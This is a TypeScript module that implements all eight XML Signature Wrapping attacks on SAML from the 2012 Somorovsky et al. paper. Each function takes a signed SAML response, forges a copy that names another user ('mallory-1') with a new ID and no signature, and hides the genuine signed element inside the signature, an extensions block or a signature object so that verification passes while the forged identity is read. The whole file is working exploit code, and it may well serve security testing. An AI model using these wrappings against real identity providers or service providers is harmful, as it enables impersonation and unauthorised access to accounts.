/**
 * The eight ways to wrap a signature of SAML (Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be", 2012): the
 * signed element is somewhere else in the document, and a forged one is where programs look for it.
 */

const ASSERTION = /<saml:Assertion .*<\/saml:Assertion>/s;
const SIGNATURE = /<ds:Signature.*<\/ds:Signature>/s;

const partOf = (xml: string, pattern: RegExp): string => pattern.exec(xml)?.[0] ?? "";
/** The same for another person, with another id and unsigned. */
const forge = (xml: string): string =>
  xml
    .replace(SIGNATURE, "")
    .replace("ana-4711", "mallory-1")
    .replace(/ ID="[^"]*"/, ' ID="_forged"');
const insertAfter = (xml: string, mark: string, more: string): string => xml.replace(mark, () => mark + more);
const insertBefore = (xml: string, mark: string, more: string): string => xml.replace(mark, () => more + mark);

type Wrap = (signed: string) => string;

/** For a response that is signed as a whole. */
const OF_RESPONSE: readonly Wrap[] = [
  // XSW 1: a forged response around, the signed one within its signature.
  (signed) => {
    const signature = partOf(signed, SIGNATURE).replace("</ds:Signature>", () => `${signed}</ds:Signature>`);
    return insertAfter(forge(signed), "</saml:Issuer>", signature);
  },
  // XSW 2: the same, with the signed response before the signature.
  (signed) => insertAfter(forge(signed), "</saml:Issuer>", signed.replace(SIGNATURE, "") + partOf(signed, SIGNATURE)),
];

/** For a response whose assertion is signed. */
const OF_ASSERTION: readonly Wrap[] = [
  // XSW 3: a forged assertion before the signed one.
  (signed) => insertBefore(signed, "<saml:Assertion ", forge(partOf(signed, ASSERTION))),
  // XSW 4: the signed assertion within the forged one.
  (signed) => {
    const assertion = partOf(signed, ASSERTION);
    return signed.replace(assertion, () =>
      forge(assertion).replace("</saml:Assertion>", () => `${assertion}</saml:Assertion>`),
    );
  },
  // XSW 5: the forged assertion has the signature, the signed one comes after it.
  (signed) => {
    const assertion = partOf(signed, ASSERTION);
    const forged = insertAfter(forge(assertion), "</saml:Issuer>", partOf(assertion, SIGNATURE));
    return signed.replace(assertion, () => forged + assertion.replace(SIGNATURE, ""));
  },
  // XSW 6: the signed assertion within the signature of the forged one.
  (signed) => {
    const assertion = partOf(signed, ASSERTION);
    const bare = assertion.replace(SIGNATURE, "");
    const signature = partOf(assertion, SIGNATURE).replace("</ds:Signature>", () => `${bare}</ds:Signature>`);
    return signed.replace(assertion, () => insertAfter(forge(assertion), "</saml:Issuer>", signature));
  },
  // XSW 7: the forged assertion within extensions, where a schema looks at nothing.
  (signed) => {
    const forged = forge(partOf(signed, ASSERTION));
    return insertBefore(signed, "<samlp:Status>", `<samlp:Extensions>${forged}</samlp:Extensions>`);
  },
  // XSW 8: the signed assertion within an object of the signature of the forged one.
  (signed) => {
    const assertion = partOf(signed, ASSERTION);
    const object = `<ds:Object>${assertion.replace(SIGNATURE, "")}</ds:Object></ds:Signature>`;
    const signature = partOf(assertion, SIGNATURE).replace("</ds:Signature>", () => object);
    return signed.replace(assertion, () => insertAfter(forge(assertion), "</saml:Issuer>", signature));
  },
];

/** Each with its number, and what of the response is signed. */
export const WRAPPINGS: readonly {
  readonly number: number;
  readonly of: "Response" | "Assertion";
  readonly wrap: Wrap;
}[] = [
  ...OF_RESPONSE.map((wrap) => ({ of: "Response" as const, wrap })),
  ...OF_ASSERTION.map((wrap) => ({ of: "Assertion" as const, wrap })),
].map((one, index) => ({ ...one, number: index + 1 }));
